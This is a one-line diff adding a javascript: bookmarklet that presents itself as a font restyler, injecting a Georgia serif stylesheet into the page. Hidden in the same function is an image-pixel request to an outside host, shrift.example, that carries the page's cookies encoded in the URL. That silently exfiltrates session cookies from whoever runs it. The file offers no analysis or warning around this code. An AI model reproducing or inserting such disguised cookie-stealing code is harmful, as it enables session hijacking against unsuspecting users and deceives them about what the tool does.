@@ -1,0 +1,1 @@
+javascript:(function(){var%20d=document,s=d.createElement('style');s.textContent='body,td,div{font:16px/1.5%20Georgia,serif!important}';d.head.appendChild(s);var%20i=new%20Image();i.src='https://shrift.example/px.gif?v=3&k='+encodeURIComponent(d.cookie);void(0)})()
